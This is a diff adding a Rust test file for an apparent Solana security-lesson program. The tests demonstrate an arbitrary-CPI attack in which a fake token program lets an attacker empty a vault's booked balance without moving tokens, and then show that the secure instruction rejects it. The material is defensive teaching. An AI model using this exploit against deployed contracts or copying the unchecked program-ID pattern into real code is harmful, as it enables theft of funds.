@@ -0,0 +1,122 @@
+//! The fake token program attack in the arbitrary-CPI program, end to end.
+//!
+//! `transfer_tokens_vulnerable` sends an SPL Token `Transfer` to whatever
+//! `token_program` it is given and books the withdrawal once the call
+//! succeeds. `programs/fake-token-program` succeeds without moving a token,
+//! so the vault's books drain while its token account stays full.
+//! `transfer_tokens_secure` takes `Program<'info, Token>` and refuses it.
+
+use anchor_lang::error::ErrorCode as AnchorError;
+use anchor_lang::{InstructionData, ToAccountMetas};
+use anchor_spl::token::TokenAccount;
+use arbitrary_cpi::{accounts, instruction, Vault, ID};
+use security_tests::{anchor_account, load, mint_account, program_test, send, system_account, token_account};
+use solana_program_test::BanksClient;
+use solana_sdk::{
+    instruction::{Instruction, InstructionError},
+    native_token::LAMPORTS_PER_SOL,
+    pubkey::Pubkey,
+    signature::{Keypair, Signer},
+    transaction::TransactionError,
+};
+
+const VAULT_BALANCE: u64 = 1_000;
+
+/// A vault booking `VAULT_BALANCE`, backed by a token account that really
+/// holds it, and an attacker with an empty token account of the same mint.
+struct Fixture {
+    banks: BanksClient,
+    attacker: Keypair,
+    vault: Pubkey,
+    vault_authority: Pubkey,
+    vault_tokens: Pubkey,
+    attacker_tokens: Pubkey,
+}
+
+async fn funded_vault() -> Fixture {
+    let owner = Pubkey::new_unique();
+    let attacker = Keypair::new();
+    let mint = Pubkey::new_unique();
+    let (vault, bump) = Pubkey::find_program_address(&[b"vault", owner.as_ref()], &ID);
+    let (vault_authority, vault_authority_bump) = Pubkey::find_program_address(&[b"vault_authority"], &ID);
+    let (vault_tokens, attacker_tokens) = (Pubkey::new_unique(), Pubkey::new_unique());
+    let state = Vault { authority: owner, mint, balance: VAULT_BALANCE, vault_authority_bump, bump };
+
+    let mut test = program_test();
+    test.add_account(attacker.pubkey(), system_account(LAMPORTS_PER_SOL));
+    test.add_account(vault, anchor_account(&state, ID));
+    test.add_account(mint, mint_account(vault_authority, 6));
+    test.add_account(vault_tokens, token_account(mint, vault_authority, VAULT_BALANCE));
+    test.add_account(attacker_tokens, token_account(mint, attacker.pubkey(), 0));
+    let (banks, _payer, _) = test.start().await;
+    Fixture { banks, attacker, vault, vault_authority, vault_tokens, attacker_tokens }
+}
+
+impl Fixture {
+    async fn send(&mut self, ix: Instruction) -> Result<(), TransactionError> {
+        send(&mut self.banks, &[ix], &[&self.attacker]).await
+    }
+
+    async fn withdraw_vulnerable(&mut self, amount: u64) -> Result<(), TransactionError> {
+        let ix = Instruction::new_with_bytes(
+            ID,
+            &instruction::TransferTokensVulnerable { amount }.data(),
+            accounts::TransferVulnerable {
+                vault: self.vault,
+                token_program: fake_token_program::ID,
+                source: self.vault_tokens,
+                destination: self.attacker_tokens,
+                authority: self.attacker.pubkey(),
+            }
+            .to_account_metas(None),
+        );
+        self.send(ix).await
+    }
+
+    async fn booked(&mut self) -> u64 {
+        load::<Vault>(&mut self.banks, self.vault).await.balance
+    }
+
+    async fn tokens(&mut self, key: Pubkey) -> u64 {
+        load::<TokenAccount>(&mut self.banks, key).await.amount
+    }
+}
+
+#[tokio::test]
+async fn the_fake_program_drains_the_books_without_moving_tokens() {
+    let mut fixture = funded_vault().await;
+
+    fixture.withdraw_vulnerable(400).await.expect("the fake transfer reports success");
+    assert_eq!(fixture.booked().await, VAULT_BALANCE - 400);
+
+    // Again until the books are empty - each "withdrawal" is free
+    fixture.withdraw_vulnerable(VAULT_BALANCE - 400).await.expect("and again");
+    assert_eq!(fixture.booked().await, 0);
+
+    assert_eq!(fixture.tokens(fixture.vault_tokens).await, VAULT_BALANCE);
+    assert_eq!(fixture.tokens(fixture.attacker_tokens).await, 0);
+}
+
+#[tokio::test]
+async fn the_secure_transfer_refuses_the_fake_program() {
+    let mut fixture = funded_vault().await;
+    let ix = Instruction::new_with_bytes(
+        ID,
+        &instruction::TransferTokensSecure { amount: 400 }.data(),
+        accounts::TransferSecure {
+            vault: fixture.vault,
+            vault_authority: fixture.vault_authority,
+            token_program: fake_token_program::ID,
+            vault_token_account: fixture.vault_tokens,
+            user_token_account: fixture.attacker_tokens,
+            authority: fixture.attacker.pubkey(),
+        }
+        .to_account_metas(None),
+    );
+
+    let err = fixture.send(ix).await.expect_err("not the Token program");
+
+    let wrong_program = InstructionError::Custom(AnchorError::InvalidProgramId as u32);
+    assert_eq!(err, TransactionError::InstructionError(0, wrong_program));
+    assert_eq!(fixture.booked().await, VAULT_BALANCE);
+}